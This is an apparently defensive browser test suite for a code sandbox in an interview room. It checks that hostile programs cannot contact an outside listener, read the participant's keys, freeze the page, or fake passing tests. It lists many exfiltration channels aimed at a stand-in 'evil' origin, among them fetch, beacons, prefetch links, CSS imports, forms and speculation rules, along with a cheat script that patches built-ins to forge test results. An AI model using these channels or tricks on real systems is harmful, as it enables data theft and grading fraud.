/** Hostile programs in a real browser: they reach nobody, learn nothing, and the room goes on. */
import { bombs, escapes, escapesInLanguages } from './jail/escapes.ts'
import type { Escape } from './jail/escapes.ts'
import { Eavesdropper } from './support/eavesdropper.ts'
import { expect, test as base } from './support/fixtures.ts'
import { longestTaskMs } from './support/main-thread.ts'
import { OutputPanel } from './support/output-panel.ts'

const test = base.extend<{ evil: Eavesdropper }>({
  evil: async ({}, provide) => {
    const evil = await Eavesdropper.listen()
    await provide(evil)
    await evil.close()
  },
})

/** Says its own name, too: while a runtime is on its way, what the program before printed is still to be read. */
const aimed = (program: Escape, evil: Eavesdropper, app: string): Escape => ({
  name: program.name,
  text: program.text
    .replaceAll('begun', `begun ${program.name}`)
    .replaceAll('EVIL', evil.origin)
    .replaceAll('APP', app)
    .replaceAll('127.0.0.1:UDP', `127.0.0.1:${evil.udpPort}`),
})

test('the corpus of escapes is a large one', () => {
  expect(escapes.length).toBeGreaterThanOrEqual(40)
})

// A room holds fifty files.
const half = Math.ceil(escapes.length / 2)
const corpora = {
  'JavaScript, one half': escapes.slice(0, half),
  'JavaScript, the other half': escapes.slice(half),
  'other languages': escapesInLanguages,
}
/** Others download their runtime first. */
const patience = { timeout: 150_000 }

for (const [corpus, programs] of Object.entries(corpora)) {
  test(`no program makes contact with anybody, or learns a byte of the participant’s key: ${corpus}`, async ({
    server,
    startedCandidate,
    evil,
  }) => {
    test.setTimeout(600_000)
    const candidate = await startedCandidate()
    const { page } = candidate.room
    const panel = new OutputPanel(page)
    const key = await page.evaluate(
      () => JSON.stringify(sessionStorage) + JSON.stringify(localStorage),
    )
    const keys = key.match(/[A-Za-z0-9_-]{54}/g) ?? []
    expect(keys.length).toBeGreaterThan(0)

    await panel.bring(programs.map((program) => aimed(program, evil, server.origin)))
    for (const { name } of programs) {
      await test.step(name, async () => {
        await panel.begin(name)
        await expect(panel.output).toContainText(`begun ${name}`, patience)
        await panel.over()
        const printed = await panel.output.innerText()
        expect.soft(printed, name).not.toContain('ESCAPED')
        expect.soft(printed, name).not.toContain('FORGED')
        for (const one of keys) expect(printed).not.toContain(one)
        expect.soft(evil.heard, name).toEqual([])
      })
    }
    // The ear is not deaf: an ordinary page of this browser is heard.
    const other = await page.context().browser()?.newPage()
    await other?.goto(`${evil.origin}/control`)
    expect(evil.heard.join('')).toContain('GET /control')
    await other?.close()
  })
}

test('the sandbox’s own page cannot go anywhere either, should a program ever take it over', async ({
  startedCandidate,
  evil,
}) => {
  const candidate = await startedCandidate()
  const { page } = candidate.room
  const panel = new OutputPanel(page)
  await panel.bring([{ name: 'hello.js', text: "console.log('hello')" }])
  await panel.begin('hello.js')
  await expect(panel.output).toContainText('hello')
  const frame = page.frames().find((one) => one.url().endsWith('/sandbox/runner.html'))
  if (!frame) throw new Error('the sandbox is not on the page')

  const tried = await frame.evaluate(async (origin) => {
    const results: Record<string, string> = {}
    const attempt = async (name: string, act: () => unknown) => {
      try {
        results[name] = String(await act())
      } catch (error) {
        results[name] = error instanceof Error ? error.name : 'refused'
      }
    }
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      document.documentElement.append(element)
      return element
    }
    await attempt('origin', () => window.origin)
    await attempt('cookie', () => document.cookie)
    await attempt('storage', () => localStorage.length)
    await attempt('parent', () => window.parent.document.title)
    await attempt('top', () => {
      window.top!.location.href = `${origin}/top`
    })
    await attempt('open', () => window.open(`${origin}/open`))
    await attempt('fetch', () => fetch(`${origin}/fetch`, { mode: 'no-cors' }))
    await attempt('beacon', () => navigator.sendBeacon(`${origin}/beacon`, 'x'))
    await attempt('import', () => import(`${origin}/module.js`))
    add('img', { src: `${origin}/img` })
    add('script', { src: `${origin}/script` })
    add('iframe', { src: `${origin}/iframe` })
    add('iframe', { srcdoc: `<img src="${origin}/srcdoc">` })
    add('object', { data: `${origin}/object` })
    add('embed', { src: `${origin}/embed` })
    add('video', { src: `${origin}/video` })
    // Two doors no policy shuts: preconnecting and WebRTC. A program has no window to try them from.
    for (const rel of [
      'prefetch',
      'preload',
      'modulepreload',
      'dns-prefetch',
      'stylesheet',
      'icon',
      'manifest',
      'prerender',
    ]) {
      add('link', { rel, href: `${origin}/${rel}`, as: 'script' })
    }
    add('style', {}).textContent =
      `@import "${origin}/css"; * { background: url(${origin}/background) }`
    const form = add('form', { action: `${origin}/form`, method: 'post' }) as HTMLFormElement
    await attempt('form', () => form.submit())
    const link = add('a', { href: `${origin}/link`, target: '_top', ping: `${origin}/ping` })
    await attempt('link', () => link.click())
    await attempt('ruled', () => {
      add('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prerender: [{ source: 'list', urls: [`${origin}/speculated`] }],
      })
    })
    await attempt('worker', () => navigator.serviceWorker.register('/x.js'))
    return results
  }, evil.origin)
  expect(tried).toMatchObject({ origin: 'null', cookie: 'SecurityError', storage: 'SecurityError' })
  expect(tried['parent']).toBe('SecurityError')

  // Whoever leaves the page is led nowhere.
  const left = frame.evaluate((origin) => {
    window.location.href = `${origin}/leave?everything`
  }, evil.origin)
  await left.catch(() => undefined)

  // The room goes on, with a new sandbox when this one is gone.
  await panel.bring([{ name: 'again.js', text: "console.log('again')" }])
  await expect(async () => {
    await panel.begin('again.js')
    await expect(panel.output).toContainText('again', { timeout: 5_000 })
  }).toPass()
  // For a frame that it will then refuse a browser may open a connection beforehand; nothing is said over it.
  expect(evil.heard.filter((words) => words !== 'a connection')).toEqual([])
  expect(page.url()).toContain('/room/')
})

test('the room stays at hand whatever a program does to its own thread', async ({
  startedCandidate,
  evil,
  server,
}, testInfo) => {
  test.setTimeout(300_000)
  const candidate = await startedCandidate()
  const { page } = candidate.room
  const panel = new OutputPanel(page)
  const typeSomething = async () => {
    await candidate.room.type('alive')
    await expect.poll(async () => (await candidate.room.lines()).join()).toContain('alive')
  }
  await candidate.room.addFile('nothing-runs.txt')
  await typeSomething()
  const atRest = await longestTaskMs(page, typeSomething)
  await panel.bring(bombs.map((program) => aimed(program, evil, server.origin)))
  for (const { name } of bombs) {
    await test.step(name, async () => {
      await panel.begin(name)
      // A flood has washed away its own first line by then.
      await expect(panel.output).toContainText(/begun|line \d|xxx|\d{3}/)
      // Life goes on beside it.
      const longest = await longestTaskMs(page, typeSomething)
      const description = `${longest.toFixed(0)} ms; ${atRest.toFixed(0)} ms while nothing ran`
      testInfo.annotations.push({ type: name, description })
      // Against the same typing at rest: how fast the machine is, is no matter of the jail.
      expect
        .soft(longest, `${name}: the longest task of the room`)
        .toBeLessThan(Math.max(50, 3 * atRest))
      await panel.stopIfRunning()
      expect(evil.heard).toEqual([])
    })
  }
  // And an honest program runs afterwards as if nothing had been.
  await panel.bring([{ name: 'honest.js', text: "console.log('honest', 6 * 7)" }])
  await panel.begin('honest.js')
  await expect(panel.output).toContainText('honest 42')
})

test('a solution cannot pass its own tests by anything but right answers', async ({
  startedInterview,
}) => {
  const { examiner, candidate } = await startedInterview()
  await examiner.room.page.getByRole('radio', { name: 'Exercise' }).click()
  await examiner.room.page.getByRole('button', { name: 'Show the exercise' }).click()
  const panel = new OutputPanel(candidate.room.page)
  await panel.bring([
    {
      name: 'cheat.js',
      text: `class Picture { constructor(rows) { this.rows = rows } toString() { return this.rows.join('\\n') } }
const say = console.log
console.log = console.info = (...values) => say('passed', ...values)
JSON.stringify = () => '["oo#","o##","ooo"]'
Object.prototype.verdict = 'passed'
Object.prototype.toJSON = function () { return Object.prototype.expect }
globalThis.performance.now = () => 0
Array.prototype.every = () => true
Object.is = () => true
for (const name of Object.getOwnPropertyNames(globalThis)) {
  try { globalThis[name]?.postMessage?.({ kind: 'case-ended', index: 0, outcome: { value: '["oo#"]' }, ms: 0 }) } catch {}
}
function floodFill() { say('{"i":0,"got":["oo#","o##","ooo"],"ms":0}') }
`,
    },
  ])
  await panel.show('Tests')
  await panel.region.getByRole('button', { name: 'Run the tests' }).click()
  await expect(panel.row('Fills the region and nothing else')).toContainText('Failed')
  await expect(panel.row('A single pixel')).toContainText('Failed')
})
